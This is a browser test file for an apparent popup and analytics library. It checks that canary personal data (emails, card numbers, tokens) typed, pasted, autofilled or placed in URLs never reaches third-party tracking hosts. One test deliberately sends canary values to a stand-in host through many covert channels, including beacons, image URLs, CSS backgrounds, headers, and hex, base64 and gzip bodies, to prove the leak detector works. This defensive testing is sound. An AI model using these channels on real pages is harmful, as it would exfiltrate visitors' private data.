// Nothing of a person's leaves the page: a careless shop has it everywhere, every sink is configured, rules of all kinds
// ask for it, all consents are given, and what goes over the wire holds none of it.

import assert from "node:assert/strict";
import { test } from "node:test";

import { canary, found, wire } from "./canaries.mjs";
import { setting } from "./support.mjs";

const here = setting();
const HOSTS = ["segment", "mixpanel", "amplitude", "posthog", "hotjar", "crazyegg", "optimizely", "vwo", "target", "tealium", "hubspot", "marketo", "meta",
  "shopify", "google", "gtm", "custom", "linkedin", "own", "callback", "collector"].map((name) => `${name}.test`).concat("trackcmp.net");
const KINDS = ["impression", "click", "dismiss", "hidden", "blocked", "survey_answer", "submit", "exposure", "goal", "funnel_step"];

async function until(what, holds) {
  for (const end = Date.now() + 20_000; Date.now() < end;) {
    const value = await holds();
    if (value) return value;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return assert.fail(`still waiting for ${await (typeof what === "function" ? what() : what)}`);
}

/** The careless shop, come to by a link from an address that says too much. */
async function visit(t) {
  const context = await here.browser.newContext({ permissions: ["clipboard-read", "clipboard-write"] });
  t.after(() => context.close());
  const page = await context.newPage();
  const faults = [];
  page.on("pageerror", ({ message }) => faults.push(message));
  await page.addInitScript(`globalThis.canary = ${canary}`);
  await page.goto(`${here.server.url}/t/frame.html?from=${encodeURIComponent(canary("referrer").all)}`);
  const net = await wire(page, here.server.url);
  const { mail, token, card, all } = canary("address");
  const address = `/t/canary.html?${new URLSearchParams({ email: mail, token, card, utm_source: all })}#access_token=${canary("hash").token}&who=${encodeURIComponent(canary("hash").all)}`;
  await page.evaluate((to) => location.assign(to), address);
  await page.waitForFunction(() => globalThis.tells && globalThis.shop.state === "running");
  return { context, page, net, faults };
}

/** What a visitor does, with a keyboard and a mouse. */
async function acts(page) {
  const type = async (where, text) => {
    await page.focus(where);
    await page.locator(where).pressSequentially(text);
  };
  await type("#mail", canary("typed").mail);
  await type("#name", canary("typed").word);
  await type("#card", canary("typed").card);
  await type("#secret", canary("typed").token);
  await type("#rich", canary("typed").all);
  await page.locator("x-account #inner").pressSequentially(canary("typed in a shadow").all);
  // As a browser fills in what it knows of its owner: an input that is the visitor's, all at once.
  await page.focus("#mail");
  await page.keyboard.insertText(canary("autofilled").mail);
  await page.focus("#note");
  await page.evaluate((text) => navigator.clipboard.writeText(text), canary("clipboard").all);
  await page.keyboard.press("Control+v");
  await page.locator("#prose").selectText();
  await page.keyboard.press("Control+c");
  await page.hover("#guide");
  await page.click("#send");
}

/** Shows a rule, and has it answered. */
async function answers(page) {
  const widget = (id) => page.locator(`[data-opportune-rule="${id}"]`).first();
  const show = async (id) => {
    // A popup stays away from who types, for a while.
    await until(async () => `${id}: ${JSON.stringify(await page.evaluate((one) => globalThis.shop.explain(one), id))}`, () => page.evaluate((one) => {
      globalThis.shop.trigger(one, { force: true });
      return !!document.querySelector(`[data-opportune-rule="${one}"]`);
    }, id));
    return widget(id);
  };
  for (const id of ["words", "rewrite"]) await page.evaluate((one) => globalThis.shop.trigger(one, { force: true }), id);
  const choice = await show("choice");
  await choice.getByRole("button", { name: canary("facts").word }).first().click();
  await choice.waitFor({ state: "detached" });
  await (await show("rating")).getByRole("button", { name: "4" }).or(widget("rating").getByRole("radio", { name: "4" })).first().click();
  await widget("rating").waitFor({ state: "detached" });
  const free = await show("free");
  await free.getByRole("textbox").fill(canary("survey").all);
  await free.getByRole("button", { name: /send/i }).click();
  await free.waitFor({ state: "detached" });
  const letter = await show("letter");
  await letter.getByRole("textbox").first().fill(canary("form").mail);
  await letter.getByRole("textbox").nth(1).fill("+353 1 555 0100");
  await letter.getByRole("textbox").nth(2).fill(canary("form").all);
  await letter.getByRole("button", { name: /send/i }).click();
  await letter.waitFor({ state: "detached" });
  const coupon = await show("coupon");
  await coupon.getByRole("button", { name: "Fine" }).click();
  const greets = await show("greets");
  await greets.getByRole("button", { name: "Close" }).click();
}

test("no value of a person's is in anything that leaves", { timeout: 300_000 }, async (t) => {
  const { page, net, faults } = await visit(t);
  const outcomes = () => net.all.filter(({ url, body }) => !url.startsWith(here.server.url) && /opportune/.test(body)).length;
  await page.evaluate(() => globalThis.tells());
  await until("it happened", () => page.evaluate(() => globalThis.events.length > 3));
  assert.equal(net.all.filter(({ type, url }) => type !== "Document" && !url.startsWith(here.server.url)).length, 0, "sent before there was consent");
  await page.evaluate(() => globalThis.shop.setConsent("granted"));
  await until("what waited for consent", () => outcomes() > HOSTS.length);
  await acts(page);
  await answers(page);
  await page.evaluate(() => globalThis.tells());
  await page.evaluate((path) => history.pushState(globalThis.canary("state"), "", path), `/t/account/${canary("path").mail}?${new URLSearchParams({ order: canary("path").token })}`);
  await page.evaluate(() => globalThis.tells());

  const kinds = () => page.evaluate(() => [...new Set(globalThis.events.map(({ name }) => name.replace("opportune_", "")))].sort());
  await until(async () => `all kinds: ${await kinds()}`, async () => (await kinds()).length === KINDS.length);
  const hosts = () => new Set(net.all.filter(({ body }) => body.length).map(({ url }) => new URL(url).host));
  await until(() => `all hosts: ${HOSTS.filter((host) => !hosts().has(host))}`, () => HOSTS.every((host) => hosts().has(host)));
  // As it is left, what waits is sent.
  await page.evaluate(() => globalThis.tells());
  await page.goto("about:blank");

  const read = (host) => net.all.filter(({ url }) => url && new URL(url).host === host).map(({ body }) => body.toString()).join("\n");
  // What is sent as a page goes is seen when it is gone.
  for (const host of ["own.test", "collector.test", new URL(here.server.url).host]) for (const kind of KINDS) await until(`${kind} at ${host}: ${read(host)}`, () => read(host).includes(`opportune_${kind}"`));
  assert.match(read("own.test"), /"meta":\{"owner":"\[masked\]","card":"\[masked\]","number":"\[masked\]","token":"\[masked\]","link":"https:\/\/shop\.test\/me","list":\[\{"deep":"\[masked\]"\}\]\}/);
  assert.deepEqual(net.leaks(), []);
  // Browsers add where a request comes from; ours say no more than the shop.
  const referrers = net.all.filter(({ url }) => /collect/.test(url)).map(({ headers }) => headers.Referer ?? headers.referer);
  assert.deepEqual([...new Set(referrers)].filter((one) => one !== `${here.server.url}/`), []);
  const addressed = net.all.filter(({ body }) => decodeURIComponent(body.toString()).includes("list@shop.test")).map(({ url }) => new URL(url).host);
  assert.deepEqual([...new Set(addressed)], ["trackcmp.net"], "the contact that the shop named goes to whom it named it for");
  t.diagnostic(`${net.all.length} requests, ${net.all.filter(({ body }) => body.length).length} with bodies, to ${new Set(net.all.map(({ url }) => url && new URL(url).host)).size} hosts`);
  assert.deepEqual(faults, []);
});

test("whoever looks would find it: in addresses, headers, bodies, beacons, sockets, packed or not", { timeout: 60_000 }, async (t) => {
  const { page, net } = await visit(t);
  const ways = await page.evaluate(async () => {
    const { canary } = globalThis;
    const to = "https://leak.test/";
    const packed = (text) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
    const send = (body, more) => fetch(to, { method: "POST", mode: "no-cors", body, ...more }).catch(() => {});
    const hex = (text) => [...new TextEncoder().encode(text)].map((one) => one.toString(16).padStart(2, "0")).join("");
    const ways = {
      plain: (text) => send(text), json: (text) => send(JSON.stringify({ text })), form: (text) => send(new URLSearchParams({ text })),
      parts: (text) => {
        const data = new FormData();
        data.append("text", text);
        return send(data);
      },
      base: (text) => send(JSON.stringify({ text: btoa(`x${text}`) })), hex: (text) => send(hex(text)), packed: async (text) => send(await packed(text)),
      keepalive: (text) => send(text, { keepalive: true }), address: (text) => fetch(to + encodeURIComponent(encodeURIComponent(text)), { mode: "no-cors" }).catch(() => {}),
      header: (text) => fetch("/t/nothing.js", { headers: { "x-who": encodeURIComponent(text) } }),
      beacon: async (text) => navigator.sendBeacon(to, text), blob: async (text) => navigator.sendBeacon(to, new Blob([text], { type: "text/plain" })),
      image: (text) => new Promise((resolve) => {
        const image = new Image();
        image.onload = image.onerror = resolve;
        image.src = `${to}?${new URLSearchParams({ text })}`;
      }),
      request: (text) => new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open("POST", to);
        request.send(text);
      }),
      style: async (text) => {
        document.body.style.backgroundImage = `url("${to}${encodeURIComponent(text)}")`;
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      },
    };
    for (const [name, way] of Object.entries(ways)) {
      for (const kind of ["mail", "card", "token", "word"]) await way(canary(`leak ${name}`)[kind]);
    }
    return Object.keys(ways);
  });
  for (const name of ways) {
    const { card, word } = canary(`leak ${name}`);
    const isFound = () => [word.toLowerCase(), card].every((value) => net.leaks().some((leak) => leak.includes(value)));
    await until(() => `${name}: ${net.leaks().filter((leak) => leak.includes(name))}`, isFound);
  }
});

test("what is found, however it is written", () => {
  const { mail, spaced, token, card } = canary("here");
  const json = JSON.stringify({ deep: [mail] });
  for (const text of [mail, spaced, token, json, encodeURIComponent(json), Buffer.from(json).toString("base64"), Buffer.from(json).toString("base64url"), Buffer.from(mail).toString("hex"), spaced.replaceAll(" ", "-"), mail.toUpperCase()]) {
    assert.notDeepEqual(found(text), [], text);
  }
  assert.deepEqual(found(`{"at":1795255200000,"id":"1f0c-7","card":"${card.replace("4", "5")}"}`), []);
});
